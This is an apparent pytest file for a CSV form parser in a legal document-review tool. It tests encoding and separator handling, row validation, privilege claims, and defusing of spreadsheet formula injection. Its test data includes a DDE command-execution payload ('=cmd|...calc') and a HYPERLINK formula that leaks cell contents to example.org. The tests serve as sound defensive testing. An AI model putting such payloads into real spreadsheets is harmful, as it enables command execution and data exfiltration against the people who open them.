"""A form comes back as the spreadsheet saves it, and says clearly what it says, or is refused with the row."""

import csv
import io
from pathlib import Path
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.hashing import Digest
from ledger.roles import Role
from protocol.exchange import filenames, forms, spreadsheet
from protocol.exchange.errors import BadForm
from protocol.exchange.filenames import ShownDocument
from protocol.parties.question import FORMAT, Request
from protocol.parties.view import Document
from tests.support import shown

NOTHING = Digest(bytes(32))

NAMES = st.text(max_size=30)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]


def asked(kind: str = "labels", number: int = 2) -> Request:
    common = {"entry": NOTHING, "head": NOTHING, "matter": NOTHING}
    return Request(files={}, format=FORMAT, kind=kind, role=Role.BOB, round=number, size=1, start=0, **common)


def documents(names: list[str], note: str = "") -> list[ShownDocument]:
    return [
        shown.document(position=place, name=name, content=b"x", text="x", note=note)
        for place, name in enumerate(names, 1)
    ]


def listed(names: list[str], number: int = 2) -> dict[int, Document]:
    return {each.position: Document(name=each.name, file=each.file(number)) for each in documents(names)}


def blank(names: list[str], kind: str = "labels", number: int = 2, form: str = filenames.LABELS) -> list[list[str]]:
    data = forms.blank(asked(kind, number), documents(names))[form]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def saved(rows: list[list[str]], separator: str = ",", encoding: str = "utf-8", end: str = "\r\n") -> bytes:
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=separator, lineterminator=end).writerows(rows)
    return stream.getvalue().encode(encoding)


THREE = ["one.txt", "two.txt", "three.txt"]


def three(*said: str) -> bytes:
    rows = blank(THREE)
    for row, word in zip(rows[1:], said, strict=True):
        row[3] = word
    return saved(rows)


@given(
    st.lists(st.tuples(NAMES, st.booleans()), min_size=1, max_size=12),
    st.sampled_from(ENCODINGS),
    st.sampled_from([",", ";", "\t"]),
    st.sampled_from(["\r\n", "\n"]),
    st.randoms(use_true_random=False),
)
def test_what_was_filled_in_comes_back_whatever_the_spreadsheet_makes_of_it(
    made: list[tuple[str, bool]], encoding: str, separator: str, end: str, random: Random
) -> None:
    names, truth = [name for name, _ in made], [label for _, label in made]
    heading, *rows = blank(names)
    for row, label in zip(rows, truth, strict=True):
        row[3] = random.choice(
            ["yes", "Y", "TRUE", "1", " Responsive "] if label else ["no", "N", "False", "0", "not responsive"]
        )
    heading = [*heading, "remarks"]
    rows = [[*row, random.choice(["", 'see above; below, or "so"'])] for row in rows]
    random.shuffle(rows)
    rows.insert(random.randrange(len(rows) + 1), ["", "", "", "", ""])
    data = saved([heading, *rows], separator, encoding, end)
    found = forms.labels(data, "labels.csv", listed(names))
    assert [found[place] for place in range(1, len(names) + 1)] == truth


@given(st.lists(NAMES, min_size=1, max_size=8))
def test_a_form_in_windows_1252_is_read_though_names_lost_letters(names: list[str]) -> None:
    rows = blank(names)
    for row in rows[1:]:
        row[3] = "yes"
    data = io.StringIO(newline="")
    csv.writer(data, delimiter=";", lineterminator="\r\n").writerows(rows)
    found = forms.labels(data.getvalue().encode("cp1252", "replace"), "labels.csv", listed(names))
    assert found == dict.fromkeys(range(1, len(names) + 1), True)


@given(st.text(max_size=40))
def test_no_cell_is_a_formula(name: str) -> None:
    cell = spreadsheet.harmless(name)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert not any(ord(letter) < 32 for letter in cell)
    assert spreadsheet.harmless(cell) == cell


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\uff1d1", "\r=1"])
def test_a_name_that_a_spreadsheet_would_run_is_defused_and_recognised(name: str) -> None:
    rows = blank([name])
    assert rows[1][1].startswith(("'", "\ufffd"))
    without_file = saved([["position", "document", "responsive"], ["1", rows[1][1], "no"]])
    assert forms.labels(without_file, "labels.csv", listed([name])) == {1: False}


@pytest.mark.parametrize(
    "name",
    ['memo;=HYPERLINK("http://example.org/?"&A1,"open")', "a; +1", 'b;"=1', "c|-1", "d,@SUM(A1)", "e;\uff1d1", ";=1"],
)
def test_no_cell_becomes_a_formula_where_columns_are_separated_otherwise(name: str) -> None:
    """A spreadsheet set to semicolons splits a comma-separated line where it finds one."""
    written = spreadsheet.write(("position", "document"), [("1", name)]).decode("utf-8-sig")
    for separator in ";|\t,":
        for cell in written.splitlines()[1].split(separator):
            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\uff1d"))
    rows = blank([name])
    without_file = saved([["position", "document", "responsive"], ["1", rows[1][1], "no"]])
    assert forms.labels(without_file, "labels.csv", listed([name])) == {1: False}


@pytest.mark.parametrize("word", ["WAHR", "VRAI", "Verdadero", "vero", "y", "Yes", "1", "responsive"])
def test_a_true_is_understood_in_several_tongues(word: str) -> None:
    assert forms.labels(three(word, "no", "falsch"), "labels.csv", listed(THREE)) == {1: True, 2: False, 3: False}


@pytest.mark.parametrize("word", ["x", "maybe", "?", "2", "yes/no", "ja und nein", "\u2713"])
def test_an_unclear_cell_is_refused_with_its_row(word: str) -> None:
    with pytest.raises(
        BadForm, match=r"labels.csv, row 3 \(position 2\): the column 'responsive' says .*; write yes or no"
    ):
        forms.labels(three("yes", word, "no"), "labels.csv", listed(THREE))


def test_an_empty_cell_is_refused_with_its_row() -> None:
    with pytest.raises(BadForm, match=r"row 4 \(position 3\): the column 'responsive' is empty; write yes or no"):
        forms.labels(three("yes", "no", ""), "labels.csv", listed(THREE))


def test_all_unclear_cells_are_told_at_once() -> None:
    with pytest.raises(BadForm) as raised:
        forms.labels(three("", "no", "perhaps"), "labels.csv", listed(THREE))
    assert str(raised.value).splitlines() == [
        "labels.csv: 2 rows say neither yes nor no:",
        "  - row 2 (position 1): the column 'responsive' is empty; write yes or no",
        "  - row 4 (position 3): the column 'responsive' says 'perhaps'; write yes or no",
    ]


def test_of_many_unclear_cells_the_first_ten_are_told() -> None:
    names = [f"mail-{number}" for number in range(25)]
    with pytest.raises(BadForm) as raised:
        forms.labels(saved(blank(names)), "labels.csv", listed(names))
    lines = str(raised.value).splitlines()
    assert (lines[0], lines[-1]) == ("labels.csv: 25 rows say neither yes nor no:", "  - and 15 other rows")
    assert len(lines) == 12


def test_a_missing_row_is_refused() -> None:
    rows = blank(THREE)
    for row in rows[1:]:
        row[3] = "no"
    with pytest.raises(BadForm, match="no row for position 2"):
        forms.labels(saved([rows[0], rows[1], rows[3]]), "labels.csv", listed(THREE))


def test_a_doubled_row_is_refused_though_it_says_the_same() -> None:
    rows = blank(THREE)
    for row in rows[1:]:
        row[3] = "no"
    with pytest.raises(BadForm, match="row 5: row 2 already has position 1"):
        forms.labels(saved([*rows, rows[1]]), "labels.csv", listed(THREE))


@pytest.mark.parametrize("position", ["4", "0", "999999999999999999999", "one", "1.5", "", "-1", "\u0661"])
def test_a_position_that_was_not_asked_about_is_refused(position: str) -> None:
    rows = blank(THREE)
    for row in rows[1:]:
        row[3] = "no"
    rows[2][0] = position
    with pytest.raises(BadForm, match="row 3: (position|.* is not a position)"):
        forms.labels(saved(rows), "labels.csv", listed(THREE))


def test_the_form_of_another_round_is_refused() -> None:
    rows = blank(THREE, number=1)
    for row in rows[1:]:
        row[3] = "no"
    with pytest.raises(BadForm, match="the form of another round"):
        forms.labels(saved(rows), "labels.csv", listed(THREE, number=2))


def test_rows_that_slipped_by_one_are_refused() -> None:
    rows = blank(THREE)
    for row, other in zip(rows[1:], ("2", "3", "1"), strict=True):
        row[0], row[3] = other, "no"
    with pytest.raises(BadForm, match="rows were shifted"):
        forms.labels(saved(rows), "labels.csv", listed(THREE))


def test_positions_alone_are_not_enough() -> None:
    data = saved([["position", "responsive"], ["1", "no"], ["2", "no"], ["3", "no"]])
    with pytest.raises(BadForm, match="names neither a file nor a document"):
        forms.labels(data, "labels.csv", listed(THREE))


def test_a_doubled_column_is_refused() -> None:
    data = saved([["position", "document", "responsive", "Responsive"], ["1", "one.txt", "no", "yes"]])
    with pytest.raises(BadForm, match="two columns 'responsive'"):
        forms.labels(data, "labels.csv", listed(["one.txt"]))


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "no row of headings"),
        (b"PK\x03\x04...", "save it as CSV"),
        (b"\xd0\xcf\x11\xe0...", "save it as CSV"),
        (b"position\x81responsive", "in an unknown encoding"),
        (b"\xff\xfe\x00", "in an unknown encoding"),
        (b"position|responsive\r\n1|yes\r\n", "no row of headings"),
        (b"hello\r\nposition,responsive\r\n", "no row of headings"),
    ],
)
def test_what_is_no_form_is_refused(data: bytes, reason: str) -> None:
    with pytest.raises(BadForm, match=reason):
        forms.labels(data, "labels.csv", listed(THREE))


@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    try:
        forms.labels(data, "labels.csv", listed(["a"]))
    except BadForm as error:
        assert "labels.csv" in str(error)


def test_a_line_that_names_the_separator_is_passed_over() -> None:
    data = b"sep=;\r\n" + saved([["position", "document", "responsive"], ["1", "a;b", "yes"]], ";")
    assert forms.labels(data, "labels.csv", listed(["a;b"])) == {1: True}


def test_with_a_threshold_only_the_top_must_be_filled_in() -> None:
    data = three("yes", "", "")
    assert forms.labels(data, "labels.csv", listed(THREE), top=1) == {1: True}
    every = {1: True, 2: False, 3: True}
    assert forms.labels(three("yes", "no", "yes"), "labels.csv", listed(THREE), top=1) == every
    with pytest.raises(BadForm, match=r"row 3 \(position 2\)"):
        forms.labels(data, "labels.csv", listed(THREE), top=2)


def test_claims_come_by_position_or_by_document() -> None:
    rows = blank(THREE, "report", form=filenames.CLAIMS)
    rows[2][3] = " advice of counsel "
    assert forms.claims(saved(rows, ";", "utf-16"), "p.csv", listed(THREE)) == {2: "advice of counsel"}
    by_name = saved([["Document", "Basis"], ["three.txt", "work product"]])
    assert forms.claims(by_name, "p.csv", listed(THREE)) == {3: "work product"}
    by_position = saved([["position", "basis"], ["1", "advice"]])
    assert forms.claims(by_position, "p.csv", listed(THREE)) == {1: "advice"}


BLANK_CLAIMS = {
    "the form as it came": (
        saved(blank(THREE, "claim", form=filenames.CLAIMS)),
        "claims nothing.*leave out --privilege",
    ),
    "headings alone": (saved([["position", "basis"]]), "claims nothing"),
    "blanks for a basis": (saved([["position", "basis"], ["1", " \u00a0\t"]]), "claims nothing"),
    "an empty file": (b"", "no row of headings"),
    "blank lines": (b"\r\n \r\n,,\r\n", "no row of headings"),
    "a row that was kept": (
        saved([["position", "basis"], ["1", "advice"], ["3", ""]]),
        "row 3 has no basis, though it was kept when other rows were taken out",
    ),
    "a row that is marked": (
        saved([["position", "parts", "basis"], ["1", "", "advice"], ["2", "", ""], ["3", "2", ""]]),
        "row 4 has no basis, though it says '2' as 'parts'",
    ),
}


@pytest.mark.parametrize("name", BLANK_CLAIMS)
def test_a_form_that_claims_nothing_is_refused_and_not_read_as_none_claimed(name: str) -> None:
    data, reason = BLANK_CLAIMS[name]
    with pytest.raises(BadForm, match=reason):
        forms.claims(data, "p.csv", listed(THREE))


def test_in_the_whole_form_a_row_without_a_basis_is_not_claimed() -> None:
    rows = saved([["position", "basis"], ["1", "advice"], ["2", ""], ["3", ""]])
    assert forms.claims(rows, "p.csv", listed(THREE)) == {1: "advice"}


@pytest.mark.parametrize(
    ("rows", "reason"),
    [
        ([["document", "basis"], ["four.txt", "x"]], "is not in this question"),
        ([["document", "basis"], ["same.txt", "x"]], "is at the positions 3, 4"),
        ([["basis"], ["x"]], "neither a position nor a document"),
        ([["position", "basis"], ["9", "x"]], "was not asked about"),
        ([["position", "basis"], ["1", "x"], ["1", "y"]], "row 2 already has position 1"),
        ([["position", "document", "basis"], ["1", "two.txt", "x"]], "another round"),
        ([["position", "basis"], ["1", "x" * 2001]], "at most 2000"),
        ([["position", "reason"], ["1", "x"]], "no row of headings"),
    ],
)
def test_a_claim_that_is_not_clear_is_refused(rows: list[list[str]], reason: str) -> None:
    with pytest.raises(BadForm, match=reason):
        forms.claims(saved(rows), "p.csv", listed(["one.txt", "two.txt", "same.txt", "same.txt"]))


def test_the_court_gets_the_basis_beside_each_claim() -> None:
    data = forms.blank(asked("privilege"), documents(["a"], note="=advice"))[filenames.LABELS]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["position", "document", "file", "basis", "upheld", "reason"]
    assert rows[1][3] == "'=advice"
    rows[1][4] = "overruled"
    assert forms.upheld(saved(rows), "labels.csv", listed(["a"])) == {1: False}


def test_a_blank_form_opens_in_a_spreadsheet_with_a_double_click() -> None:
    data = forms.blank(asked(), documents(["naïve, Ä"]))[filenames.LABELS]
    assert data.startswith(b"\xef\xbb\xbfposition,document,file,responsive,reason\r\n")
    assert data.endswith(b'1,"na\xc3\xafve, \xc3\x84",documents/0001-r2-naive-A.txt,,\r\n')


def test_a_form_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadForm, match="cannot be read"):
        spreadsheet.load(tmp_path)
